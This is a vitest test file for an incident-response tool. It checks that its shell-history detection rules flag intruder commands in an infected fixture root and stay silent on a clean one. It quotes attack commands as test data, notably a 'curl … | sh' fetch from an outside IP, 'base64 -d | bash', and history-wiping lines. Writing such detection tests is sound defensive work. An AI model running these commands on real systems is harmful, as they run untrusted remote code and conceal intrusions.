/**
 * The activity rules on the shell-history collector's records of two fake roots: one with what an
 * intruder types after logging in (test/fixtures/roots/activity/infected), one an administrator's
 * ordinary histories and a stock .bashrc (…/clean), where none of them may fire.
 */
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { shellHistoryCollector } from '../../../src/collectors/shell-history/shell-history.js';
import type { CollectOptions } from '../../../src/collectors/types.js';
import { CaseStore } from '../../../src/evidence/store.js';
import { createHostContext } from '../../../src/host/context.js';
import type { KnownFacts } from '../../../src/model/facts.js';
import type { DraftFinding } from '../../../src/model/finding.js';
import type { SessionRecord } from '../../../src/model/logins.js';
import { incidentWindow } from '../../../src/model/window.js';
import { accountChange } from '../../../src/rules/activity/account-change.js';
import { defenceOff } from '../../../src/rules/activity/defence-off.js';
import { downloadExecute } from '../../../src/rules/activity/download-execute.js';
import { historyTampering } from '../../../src/rules/activity/history-tampering.js';
import { logWipe } from '../../../src/rules/activity/log-wipe.js';
import { runRule } from '../../../src/rules/types.js';
import { tmpDir } from '../../helpers/bundle.js';
import { collectFacts } from '../../helpers/facts.js';

const ROOTS = fileURLToPath(new URL('../../fixtures/roots/activity/', import.meta.url));
const OPTIONS: CollectOptions = { sshPorts: [], maxFileBytes: 1 << 20, maxCommandBytes: 1 << 20, commandTimeoutMs: 10_000, toolLists: { names: [], hashes: [] } };
const RULES = [downloadExecute, logWipe, defenceOff, accountChange, historyTampering];
const NOW = new Date('2023-11-20T00:00:00Z');

/** alice's ssh session from 203.0.113.9 covers her stamped commands (1700000000 = 2023-11-14T22:13:20Z). */
const SESSIONS: SessionRecord[] = [
  { user: 'alice', line: 'pts/0', host: '203.0.113.9', addr: '203.0.113.9', pid: 4242, login: '2023-11-14T22:13:00.000Z', logout: '2023-11-14T22:20:00.000Z', end: 'logout', source: 'wtmp', file: '/var/log/wtmp' },
  { user: 'bob', line: 'pts/1', host: '203.0.113.9', addr: '203.0.113.9', pid: 4343, login: '2023-11-14T22:16:00.000Z', logout: '2023-11-14T22:17:00.000Z', end: 'logout', source: 'wtmp', file: '/var/log/wtmp' },
];

async function facts(name: string, sessions: SessionRecord[]): Promise<KnownFacts> {
  const store = await CaseStore.create(tmpDir('irt-act-out-'), 'C');
  const host = createHostContext({ root: `${ROOTS}${name}`, now: () => NOW });
  const base: KnownFacts = { sessions, authLogins: [], window: incidentWindow({ now: NOW, since: '2023-11-14T00:00:00Z' }) };
  return (await collectFacts([shellHistoryCollector], { host, sink: store, options: OPTIONS }, base)).facts;
}

const key = (f: DraftFinding) => [f.rule, f.severity, f.subject.path, f.subject.line ?? null];

describe('activity rules', () => {
  let infected: KnownFacts;
  let clean: KnownFacts;
  beforeAll(async () => {
    infected = await facts('infected', SESSIONS);
    clean = await facts('clean', SESSIONS);
  });

  it('the infected root: each command at its file and line, at its level', () => {
    const found = RULES.flatMap((r) => runRule(r, infected));
    const A = '/home/alice/.bash_history';
    expect(found.map(key).sort()).toEqual(
      [
        ['activity.download-execute', 'critical', A, 12], // ./pscan2 (on the tool list) after cd /dev/shm/.x
        ['activity.download-execute', 'high', A, 14], // curl | sh
        ['activity.download-execute', 'high', A, 18], // chmod +x of what wget fetched
        ['activity.download-execute', 'high', A, 20], // /var/tmp/m run
        ['activity.download-execute', 'high', A, 22], // base64 -d | bash
        ['activity.log-wipe', 'high', A, 24],
        ['activity.log-wipe', 'high', A, 26],
        ['activity.defence-off', 'high', A, 28],
        ['activity.defence-off', 'high', A, 30],
        ['activity.defence-off', 'high', A, 32],
        ['activity.account-change', 'high', A, 34],
        ['activity.account-change', 'high', A, 36],
        ['activity.account-change', 'high', A, 38],
        ['activity.history-tampering', 'high', A, 40], // history -c
        ['activity.history-tampering', 'high', '/home/bob/.zsh_history', 1], // unset HISTFILE
        ['activity.history-tampering', 'high', '/home/bob/.bashrc', 1], // export HISTFILE=/dev/null
        ['activity.history-tampering', 'high', '/root/.bash_history', null], // -> /dev/null
      ].sort(),
    );
  });

  it('findings name the command, the file and line, the account and the session', () => {
    const curl = runRule(downloadExecute, infected).find((f) => f.subject.line === 14)!;
    expect(curl.subject).toMatchObject({ user: 'alice', ip: '203.0.113.9', command: 'curl -s http://203.0.113.9/x.sh | sh', time: '2023-11-14T22:14:20.000Z', fetchPipe: 'curl … | sh' });
    expect(curl.subject.session).toMatchObject({ login: '2023-11-14T22:13:00.000Z', address: '203.0.113.9', line: 'pts/0' });
    expect(curl.title).toContain('(/home/alice/.bash_history line 14)');
    expect(curl.detail).toContain("alice's session from 203.0.113.9");
    expect(curl.evidence).toEqual(['artifacts/history-commands.jsonl', 'files/history/home/alice/.bash_history']);
    const kit = runRule(downloadExecute, infected).find((f) => f.subject.line === 12)!;
    expect(kit.subject.runs).toBe('/dev/shm/.x/pscan2');
    const wipe = runRule(logWipe, infected).find((f) => f.subject.line === 24)!;
    expect(wipe.subject.targets).toEqual(['/var/log/wtmp', '/var/log/auth.log']);
    const root = runRule(historyTampering, infected).find((f) => f.subject.path === '/root/.bash_history')!;
    expect(root.title).toBe('History linked to /dev/null: /root/.bash_history');
  });

  it('a stale or empty history after an interactive login is flagged; none without logins', async () => {
    // The fixture's files were written at checkout: a session that ended a day later finds them stale.
    const f = await facts('clean', [{ ...SESSIONS[0], login: '2023-11-19T10:00:00.000Z', logout: new Date(Date.now() + 86_400_000).toISOString() }]);
    const stale = runRule(historyTampering, f);
    expect(stale.map(key)).toEqual([['activity.history-tampering', 'medium', '/home/alice/.bash_history', null]]);
    expect(stale[0].title).toMatch(/not written since the last login/);
    // A non-interactive session (no pts/tty) says nothing about the history.
    const sftp = await facts('clean', [{ ...SESSIONS[0], line: 'ssh:notty', login: '2023-11-19T10:00:00.000Z', logout: new Date(Date.now() + 86_400_000).toISOString() }]);
    expect(runRule(historyTampering, sftp)).toEqual([]);
  });

  it('the clean root: none of the activity rules fires', () => {
    expect(RULES.flatMap((r) => runRule(r, clean))).toEqual([]);
    expect(clean.historyCommands!.length).toBeGreaterThan(20);
  });
});
